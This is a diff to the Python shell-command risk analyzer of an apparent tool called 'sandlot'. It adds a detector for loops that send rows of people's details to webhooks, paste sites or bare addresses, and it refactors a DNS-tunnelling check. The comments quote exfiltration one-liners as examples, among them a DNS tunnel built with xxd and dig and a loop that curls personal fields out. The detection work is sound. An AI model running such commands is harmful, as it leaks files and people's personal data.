@@ -18,6 +18,7 @@ import posixpath
 import re
 import shlex
 import threading
+import urllib.parse
 from collections.abc import Callable, Iterable, Mapping, Sequence
 from typing import Any
 
@@ -60,7 +61,10 @@ from sandlot.risk.data_platforms import PLATFORM_TOOLS, platform_risk, prints_se
 from sandlot.risk.destinations import (
     SUBSCRIPTION_URL,
     beacon,
+    chat_webhook,
+    data_label,
     misdirected_credential,
+    outside_address,
     personal_account,
     personal_host,
     private_address,
@@ -114,6 +118,7 @@ from sandlot.risk.sql import (
     drops_table,
     empties_tables,
     logins_to_trust,
+    people_row,
     personal_data_query,
     production_target,
     refills_tables,
@@ -1811,7 +1816,7 @@ class ShellAnalyzer:
                 self._nested(value, "shell", node, "a package script written by jq", keep=RiskLevel.HIGH)
         if name in ("jq", "gojq", "jaq") and any(_JQ_ENV.search(a) for a in args if " " in a or a == "env"):
             flow.env = True  # `jq -n env`, `$ENV`: the whole environment
-        if name in T.ARG_SENDERS and any(_DATA_LABEL.match(a) for a in args) and _ENCODER.search(self._source):
+        if name in T.ARG_SENDERS and any(data_label(a) for a in args) and _ENCODER.search(self._source):
             # `xxd -p FILE | while read c; do dig "$c.t.example.com"; done`: a file leaves, label by label
             self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                       f"{name} spells encoded data into the names it looks up (DNS tunnelling)", node)  # fmt: skip
@@ -1831,6 +1836,7 @@ class ShellAnalyzer:
             )
         if name in ("curl", "wget", "http", "https") and node is not None:
             self._credential_body(name, node)
+            self._people_body(name, args, node)
             self._web_abuse(name, args, node)
         if ("admin" in spelled or "createsuperuser" in spelled) and any(
             a in ("admin:user:create", "createsuperuser", "--role=administrator", "--role=admin") for a in args
@@ -5831,6 +5837,26 @@ class ShellAnalyzer:
                 node,
             )
 
+    def _people_body(self, name: str, args: list[str], node: Any) -> None:
+        """``… | while IFS=, read -r id name phone email addr; do curl -d "…$name…$phone…$email…" URL``: each row of
+        a file of people, field by field, sent to a host outside the network."""
+        if not self._read_vars:
+            return
+        sent = {var for var in re.findall(r"\$\{?([A-Za-z_]\w*)", self._text(node)) if var in self._read_vars}
+        if len(sent) < 3 or not people_row(sorted(sent)):
+            return
+        urls = [a for a in args if "://" in a]
+        hosts = [urllib.parse.urlsplit(u).hostname or "" for u in urls]
+        # a chat channel, a paste or file drop, a bare address or someone's own machine: not a records system
+        if not any(
+            chat_webhook(u) or public_drop(u) or outside_address(h) or personal_host(h)
+            for u, h in zip(urls, hosts, strict=True)
+        ):
+            return
+        self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                  f"{name} sends people's details ({', '.join(sorted(sent)[:4])}) row by row to {hosts[0]}",
+                  node)  # fmt: skip
+
     def _rule_trap(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
         """``trap 'CODE' EXIT``: CODE runs later, when the signal arrives or the script ends."""
         if len(args) >= 2 and not args[0].startswith("-") and args[0].strip(HOLE):
@@ -6372,8 +6398,6 @@ def _trim(value: str, op: str, pattern: str) -> str:
 #: A loop condition looking for archives still to unpack.
 _FINDS_ARCHIVES = re.compile(r"\bfind\b.*\.(?:zip|tar|t?gz|7z|rar)\b|\bls\b.*\*\.(?:zip|t?gz)\b")
 _UNPACKS = re.compile(r"\bunzip\b|\btar\s+-?\w*x|\b7za?\s+x\b|\bgunzip\b|\bunrar\s+x\b")
-#: A DNS name whose first label is run-time data: `$chunk.t.example.com`.
-_DATA_LABEL = re.compile(r"^\x00[\w-]*\.(?:[\w-]+\.)+[a-z]{2,}\.?$", re.I)
 #: Commands that turn a file into text fit for a DNS label (hex, base32/64).
 _ENCODER = re.compile(rb"\b(?:xxd|hexdump|od\s+-[A-Za-z]*x|base32|base64(?!\s+-d)|basenc)\b")
 _ARCHIVE_NAME = re.compile(r"\.(?:zip|tar|tar\.\w+|tgz|tbz2?|txz|7z|rar)$", re.I)
